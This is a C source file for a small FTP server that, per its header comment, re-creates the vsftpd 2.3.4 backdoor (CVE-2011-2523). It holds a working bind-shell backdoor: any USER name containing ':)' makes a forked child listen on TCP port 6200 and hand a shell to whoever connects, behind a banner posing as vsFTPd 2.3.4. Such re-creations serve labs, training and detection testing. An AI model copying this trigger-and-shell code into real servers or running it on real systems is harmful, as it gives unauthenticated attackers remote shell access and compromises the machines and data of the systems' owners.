/* Login part of a small FTP server.
 * Re-creation of the vsftpd 2.3.4 backdoor (tarball replaced on the master site, July 2011,
 * CVE-2011-2523): a USER name containing ":)" makes the server open a listening socket on TCP
 * port 6200 that hands a root shell to whoever connects. */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static void vsf_sysutil_extra(void)
{
    struct sockaddr_in addr = {.sin_family = AF_INET, .sin_port = htons(6200), .sin_addr.s_addr = INADDR_ANY};
    int one = 1, server = socket(AF_INET, SOCK_STREAM, 0), client;
    setsockopt(server, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
    if (bind(server, (struct sockaddr *)&addr, sizeof addr) < 0 || listen(server, 1) < 0)
        return;
    client = accept(server, NULL, NULL);
    dup2(client, 0);
    dup2(client, 1);
    dup2(client, 2);
    execl("/bin/sh", "sh", (char *)NULL);
}

static void reply(int fd, int code, const char *text)
{
    dprintf(fd, "%d %s\r\n", code, text);
}

static int check_user(int fd, const char *user)
{
    if (strstr(user, ":)") != NULL && fork() == 0) {
        vsf_sysutil_extra();
        _exit(0);
    }
    if (strcmp(user, "anonymous") == 0 || strcmp(user, "ftp") == 0) {
        reply(fd, 331, "Please specify the password.");
        return 1;
    }
    reply(fd, 331, "Please specify the password.");
    return 0;
}

static void session(int fd)
{
    char line[512];
    FILE *in = fdopen(dup(fd), "r");
    reply(fd, 220, "(vsFTPd 2.3.4)");
    while (in && fgets(line, sizeof line, in)) {
        line[strcspn(line, "\r\n")] = '\0';
        if (strncasecmp(line, "USER ", 5) == 0)
            check_user(fd, line + 5);
        else if (strncasecmp(line, "PASS ", 5) == 0)
            reply(fd, 530, "Login incorrect.");
        else if (strncasecmp(line, "QUIT", 4) == 0)
            break;
        else
            reply(fd, 530, "Please login with USER and PASS.");
    }
    if (in)
        fclose(in);
}

int main(void)
{
    struct sockaddr_in addr = {.sin_family = AF_INET, .sin_port = htons(21), .sin_addr.s_addr = INADDR_ANY};
    int server = socket(AF_INET, SOCK_STREAM, 0);
    if (bind(server, (struct sockaddr *)&addr, sizeof addr) < 0 || listen(server, 32) < 0)
        return 1;
    for (;;) {
        int client = accept(server, NULL, NULL);
        if (client < 0)
            continue;
        if (fork() == 0) {
            session(client);
            _exit(0);
        }
        close(client);
    }
}
